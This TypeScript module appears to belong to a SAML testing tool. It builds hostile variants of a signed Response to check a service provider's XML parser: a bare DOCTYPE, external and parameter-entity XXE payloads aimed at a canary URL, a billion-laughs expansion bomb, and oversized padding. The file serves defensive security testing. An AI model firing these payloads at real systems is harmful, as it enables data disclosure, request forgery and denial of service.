/**
 * `saml.signed` mutations on the document as text, around the signed Response: a DOCTYPE, entity
 * declarations (XXE, billion laughs), and sheer size. The signed elements are untouched, so only the
 * SP's XML parser settings decide.
 *
 *   doctype   `<!DOCTYPE …>` with nothing in it: the signature still verifies; an SP must refuse any DOCTYPE
 *   xxe       external   an external entity pointing at `canaryUrl`, referenced in the Response Issuer
 *             parameter  a parameter entity pointing at `canaryUrl`, expanded inside the DTD itself
 *             billion-laughs  ten nested entities of ten references each, referenced in the Issuer
 *   pad       a comment after the root pads the document to `bytes` (an SP should refuse it quickly)
 *
 * For XXE, point `canaryUrl` at the org's own canary (GET /mock/v1/canary/{token}, public; its hits are
 * read back with GET /mock/v1/faults/canary/{token}), so a vulnerable SP's fetch stays on loopback and is seen.
 */
import { isAbsoluteUrl, join, readString } from '../../tenant/fields.ts';
import { notApplied, type SentResponse, type SignedMutation } from './context.ts';
import { splitDeclaration, withDoctype } from './document.ts';
import { onlyParams, readChoice, readInteger, readNoParams } from './params.ts';

const ROOT_TAG = /<([A-Za-z_][\w.-]*(?::[A-Za-z_][\w.-]*)?)[\s/>]/;

/** The name of the root element, read from the text (the document may already not parse). */
function rootName(xml: string): string | undefined {
  const { body } = splitDeclaration(xml);
  const start = body.search(/<[A-Za-z_]/);
  return start < 0 ? undefined : ROOT_TAG.exec(body.slice(start))?.[1];
}

function doctypeBefore(sent: SentResponse, doctype: string): SentResponse {
  return { ...sent, xml: withDoctype(sent.xml, doctype) };
}

/** Puts an entity reference at the end of the first Issuer's text (the Response's). */
function referenceInIssuer(xml: string, entity: string): string | undefined {
  const close = /<\/([A-Za-z_][\w.-]*:)?Issuer>/.exec(xml);
  return close ? `${xml.slice(0, close.index)}&${entity};${xml.slice(close.index)}` : undefined;
}

export const doctypeMutation: SignedMutation<Record<string, never>> = {
  name: 'doctype',
  point: 'saml.signed',
  summary: 'Adds an empty <!DOCTYPE> before the signed Response (no entities): the signature still verifies, the SP must refuse a DOCTYPE.',
  readParams: readNoParams,
  apply(sent) {
    const name = rootName(sent.xml);
    if (!name) return notApplied('the document has no root element');
    if (/<!DOCTYPE/i.test(sent.xml)) return notApplied('the document already has a DOCTYPE');
    return doctypeBefore(sent, `<!DOCTYPE ${name}>`);
  },
};

export const XXE_VARIANTS = ['external', 'parameter', 'billion-laughs'] as const;
type XxeVariant = (typeof XXE_VARIANTS)[number];

function billionLaughs(): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= 9; level += 1) levels.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  return levels.join('');
}

export const xxeMutation: SignedMutation<{ variant: XxeVariant; canaryUrl: string | undefined }> = {
  name: 'xxe',
  point: 'saml.signed',
  summary: 'A DTD with an external entity (in the Issuer) or parameter entity fetching canaryUrl, or nested "billion laughs" entities.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['variant', 'canaryUrl']);
    const variant = readChoice(raw, 'variant', path, issues, XXE_VARIANTS);
    const canaryUrl = readString(raw, 'canaryUrl', path, issues, { maxLength: 2000 });
    if (variant !== 'billion-laughs' && variant !== undefined && canaryUrl === undefined) issues.add(join(path, 'canaryUrl'), `is required for ${variant} (e.g. {org}/mock/v1/canary/{token})`);
    if (canaryUrl !== undefined && (!isAbsoluteUrl(canaryUrl) || /["<>\s#]/.test(canaryUrl))) issues.add(join(path, 'canaryUrl'), 'must be an absolute http(s) URL without quotes, spaces, < >, or a #fragment (encode it as %23)');
    return { variant: variant ?? 'external', canaryUrl };
  },
  apply(sent, { variant, canaryUrl }) {
    const name = rootName(sent.xml);
    if (!name) return notApplied('the document has no root element');
    if (/<!DOCTYPE/i.test(sent.xml)) return notApplied('the document already has a DOCTYPE');
    if (variant === 'parameter') return doctypeBefore(sent, `<!DOCTYPE ${name} [<!ENTITY % xxe SYSTEM "${canaryUrl}"> %xxe;]>`);
    const entity = variant === 'external' ? 'xxe' : 'lol9';
    const xml = referenceInIssuer(sent.xml, entity);
    if (!xml) return notApplied('the document has no Issuer to reference the entity from');
    const declarations = variant === 'external' ? `<!ENTITY xxe SYSTEM "${canaryUrl}">` : billionLaughs();
    return doctypeBefore({ ...sent, xml }, `<!DOCTYPE ${name} [${declarations}]>`);
  },
};

export const MAX_PAD_BYTES = 16 * 1024 * 1024;

export const padMutation: SignedMutation<{ bytes: number }> = {
  name: 'pad',
  point: 'saml.signed',
  summary: 'Pads the document with a trailing comment to the given size in bytes (up to 16 MiB); the signature still verifies.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['bytes']);
    return { bytes: readInteger(raw, 'bytes', path, issues, { min: 1, max: MAX_PAD_BYTES, required: true }) ?? 1 };
  },
  apply(sent, { bytes }) {
    const size = Buffer.byteLength(sent.xml, 'utf8');
    const padding = bytes - size - '<!---->'.length;
    if (padding <= 0) return notApplied(`the document is already ${size} bytes`);
    return { ...sent, xml: `${sent.xml}<!--${'x'.repeat(padding)}-->` };
  },
};
